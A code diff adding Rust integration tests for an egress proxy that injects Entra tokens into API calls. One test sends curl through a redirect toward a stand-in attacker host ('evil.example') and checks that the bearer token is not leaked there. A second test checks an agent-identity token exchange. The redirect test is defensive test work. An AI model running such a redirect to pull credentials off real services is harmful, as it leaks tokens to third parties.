@@ -277,3 +277,86 @@ fn paths_outside_the_rule_get_no_credential() {
     assert!(e.s.api.credentials().is_empty(), "\n{out}");
     assert_eq!(e.entra.calls().len(), 0, "\n{out}");
 }
+
+#[test]
+fn a_redirect_to_another_host_is_passed_to_the_client_and_carries_no_token() {
+    if !privileged() {
+        return;
+    }
+    let e = EntraSetup::new();
+    // Inject on every path of this host, so the redirecting request gets the token.
+    let config = fs::read_to_string(&e.config)
+        .unwrap()
+        .replace("path_prefix = \"/openai/\"\n", "");
+    fs::write(&e.config, config).unwrap();
+    let out = e
+        .egressd()
+        .sh(&format!(
+            "curl -sS -L --max-time 20 -w ' [HTTP %{{http_code}}]' https://{API}/redirect-to/evil.example; echo \" [exit $?]\""
+        ))
+        .run();
+    out.assert_success();
+    // The 302 reached curl (egressd does not follow it); curl's own follow-up to the other
+    // host is a new connection, denied by policy: no token went anywhere but the API.
+    assert!(
+        !out.stdout.contains("exit 0"),
+        "the redirect target was reached\n{out}"
+    );
+    assert_eq!(e.s.evil.connections(), 0, "\n{out}");
+    assert_eq!(e.s.api.credentials().len(), 1, "\n{out}");
+    let recs = intercepted_records(&out);
+    assert_eq!(recs.len(), 1, "\n{out}");
+    assert_eq!(recs[0]["status"], 302, "{}", recs[0]);
+}
+
+#[test]
+fn the_two_hop_agent_identity_flow_injects_the_agents_token() {
+    if !privileged() {
+        return;
+    }
+    const BLUEPRINT: &str = "22222222-0000-0000-0000-000000000000";
+    const AGENT: &str = "33333333-0000-0000-0000-000000000000";
+    const AGENT_SCOPE: &str = "https://graph.microsoft.com/.default";
+    let e = EntraSetup::new();
+    e.entra.add_app(
+        BLUEPRINT,
+        Fic {
+            issuer: e.oidc.issuer(),
+            subject: "repo:octo-org/octo-repo:ref:refs/heads/main".into(),
+            audience: "api://AzureADTokenExchange".into(),
+        },
+    );
+    e.entra.add_agent(BLUEPRINT, AGENT);
+    let config = fs::read_to_string(&e.config).unwrap().replace(
+        "[[intercept]]",
+        &format!(
+            r#"[[credential]]
+name = "agent"
+source = "entra-agent"
+tenant = "{TENANT}"
+blueprint_client_id = "{BLUEPRINT}"
+agent_client_id = "{AGENT}"
+scope = "{AGENT_SCOPE}"
+assertion = "github"
+authority = "{authority}"
+
+[[intercept]]"#,
+            authority = e.entra.authority()
+        ),
+    );
+    let config = config.replace("credential = \"azure-openai\"", "credential = \"agent\"");
+    fs::write(&e.config, config).unwrap();
+    let out = e.egressd().sh(&agent_curl("")).run();
+    out.assert_success();
+    assert!(out.stdout.contains("[HTTP 200]"), "\n{out}");
+    let creds = e.s.api.credentials();
+    assert_eq!(creds.len(), 1, "{creds:?}\n{out}");
+    let token = creds[0].2.strip_prefix("Bearer ").unwrap_or_default();
+    assert_eq!(
+        e.entra.issued(token),
+        Some((AGENT.to_owned(), AGENT_SCOPE.to_owned())),
+        "the upstream did not get the agent identity's token\n{out}"
+    );
+    let rec = intercepted_records(&out).into_iter().next().unwrap();
+    assert_eq!(rec["token_source"], "entra-agent", "{rec}");
+}
